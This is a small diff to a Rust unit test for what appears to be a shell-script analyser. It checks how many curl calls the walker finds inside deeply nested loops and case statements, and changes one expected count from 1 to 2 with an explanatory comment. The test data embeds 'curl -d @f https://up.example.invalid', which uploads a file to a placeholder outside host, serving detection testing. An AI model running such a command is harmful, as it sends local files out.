@@ -99,7 +99,8 @@ fn real_nesting_stays_below_the_bound() {
     let nested = format!("{}curl -d @f https://up.example.invalid{}", "if true; then for i in 1 2; do ".repeat(8), "; done; fi".repeat(8));
     let script = shell::walk(&nested);
     assert!(script.events.is_empty(), "{:?}", script.events);
-    assert_eq!(script.cmds.iter().filter(|c| c.name() == "curl").count(), 1);
+    // The outermost loop's body is walked once per value (`1 2`), nested loops once.
+    assert_eq!(script.cmds.iter().filter(|c| c.name() == "curl").count(), 2);
     let cases = "case $1 in a) echo a;; b) case $2 in c) curl -d @f https://up.example.invalid;; esac;; esac";
     assert_eq!(shell::walk(cases).cmds.iter().filter(|c| c.name() == "curl").count(), 1);
 }
